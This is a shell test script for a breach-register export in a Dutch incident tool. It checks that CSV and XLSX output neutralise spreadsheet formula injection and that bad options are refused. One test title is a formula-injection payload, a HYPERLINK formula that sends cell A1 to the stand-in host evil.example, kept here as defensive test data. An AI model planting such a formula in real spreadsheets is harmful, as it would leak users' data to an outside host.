#!/bin/bash
# breach register: every breach, notified or not, one row each, as CSV
# (RFC 4180 quoting) and XLSX (read back with python's zipfile); titles
# beginning with =, +, -, @, a tab or a CR are neutralised with a leading
# quote in both; bad options refused.
. "$(dirname "$0")/lib.sh"
init_db
export MELDKAMER_NOW="2027-03-26 12:00"
new_incident --title '=HYPERLINK("http://evil.example/?x="&A1,"klik")' --detected-at "2027-03-26 10:00"
mk breach set "$KEY" --categories naw,bsn --subjects-min 300 --subjects-max 350 --risk hoog --risk-reasoning "BSN" --fg-name "M. de Vries" --fg-consulted-at "2027-03-26 11:00"
mk breach notify "$KEY" --kind voorlopig --reference M2027-0001 --filed-at "2027-03-26 11:30"
mk breach inform "$KEY" --decision nee --exception maatregelen --reason "Wachtwoorden direct gereset"
new_incident --title "+31 6 verkeerd nummer gebeld" --detected-at "2027-03-26 10:30"
mk breach set "$KEY" --risk geen --risk-reasoning "Alleen een voornaam"
new_incident --title "-min" --detected-at "2027-03-26 10:40"
mk breach set "$KEY"
new_incident --title "@melder, \"quote\"" --detected-at "2027-03-26 10:41"
mk breach set "$KEY"
# A title cannot begin with a tab or CR (one line, no control characters):
# the neutraliser's tab and CR cases are in tests/store/test-breach-export.c.
new_incident --title "Geen datalek" --detected-at "2027-03-26 10:43"

export MELDKAMER_NOW="2027-03-30 12:00"
mk breach register
check_ok
check_eq "csv" 'incident,titel,oefening,kennisname,categorieen,bijzondere_categorieen,bsn,betrokkenen_min,betrokkenen_max,versleuteld,risico,ap_status,ap_meldnummer,ap_gemeld_op,ap_uiterlijk,ap_te_laat,betrokkenen_informeren,betrokkenen_geinformeerd_op,fg_geraadpleegd
MK-2027-0001,"'"'"'=HYPERLINK(""http://evil.example/?x=""&A1,""klik"")",nee,2027-03-26 10:00 CET,"naw,bsn",,ja,300,350,,hoog,voorlopig gemeld,M2027-0001,2027-03-26 11:30 CET,2027-03-29 11:00 CEST,nee,nee (maatregelen),,"M. de Vries, 2027-03-26 11:00 CET"
MK-2027-0002,'"'"'+31 6 verkeerd nummer gebeld,nee,2027-03-26 10:30 CET,,,nee,,,,geen,niet gemeld,,,2027-03-29 11:30 CEST,n.v.t.,nog niet besloten,,
MK-2027-0003,'"'"'-min,nee,2027-03-26 10:40 CET,,,nee,,,,,niet gemeld,,,2027-03-29 11:40 CEST,ja (nog niet gemeld),nog niet besloten,,
MK-2027-0004,"'"'"'@melder, ""quote""",nee,2027-03-26 10:41 CET,,,nee,,,,,niet gemeld,,,2027-03-29 11:41 CEST,ja (nog niet gemeld),nog niet besloten,,' "$(tr -d '\r' <"$T/out")"
check_eq "CRLF line ends" 5 "$(grep -c $'\r$' "$T/out")"
# Python's csv reader agrees with the quoting.
check_eq "csv parse" "5 19 '=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\")|'@melder, \"quote\"" "$(python3 -c '
import csv, sys
rows = list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8")))
print(len(rows), len(rows[0]), rows[1][1] + "|" + rows[4][1], sep=" ")' "$T/out")"

mk breach register -o reg.csv
check_status 0
check_err "meldkamer breach register: 4 breaches written to 'reg.csv'"
check_eq "file = stdout" "$(breach_csv=$(cat reg.csv); echo ${#breach_csv})" "$(mk breach register; echo ${#OUT})"

mk breach register --format xlsx --output reg.xlsx
check_status 0
check_eq "xlsx cells" "['incident', 'titel', 'oefening']
['MK-2027-0001', '\\'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\")', 'nee']
['MK-2027-0002', \"'+31 6 verkeerd nummer gebeld\", 'nee']
['MK-2027-0003', \"'-min\", 'nee']
['MK-2027-0004', '\\'@melder, \"quote\"', 'nee']
formulas 0
numbers ['300', '350']" "$(python3 -c '
import re, sys, zipfile, html
z = zipfile.ZipFile(sys.argv[1])
x = z.read("xl/worksheets/sheet1.xml").decode()
rows = re.findall(r"<row [^>]*>(.*?)</row>", x)
for r in rows:
    cells = [html.unescape(t) for t in re.findall(r"<t[^>]*>(.*?)</t>", r)][:3]
    print(cells)
print("formulas", x.count("<f>"))
print("numbers", re.findall(r"<c r=\"[HI]2\"[^>]*><v>(\d+)</v>", x))' reg.xlsx)"

# XLSX to standard output is the same workbook.
mk breach register --format xlsx
check_status 0
check_eq "xlsx on stdout" "PK" "$(head -c 2 "$T/out")"

mk breach register --json
check_ok
json_py '
eq(len(d), 4)
eq(d[0]["key"], "MK-2027-0001"); eq(d[0]["ap_status"], "voorlopig gemeld"); eq(d[0]["ap_reference"], "M2027-0001")
eq(d[0]["title"], "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\")", "JSON keeps the title as it is")
eq(d[1]["breach"]["risk"], "geen")
'

refused 2 "--format 'pdf' is unknown: use csv or xlsx" breach register --format pdf
refused 2 "unexpected argument 'extra'" breach register extra
refused 2 "--output is empty" breach register --output ""
mk breach register -o "$T/no/such/dir/reg.csv"
check_status 1
check_err_has "cannot create '$T/no/such/dir/reg.csv.tmp-"
check_eq "nothing left behind" "" "$(ls "$T" | grep tmp- || true)"
finish
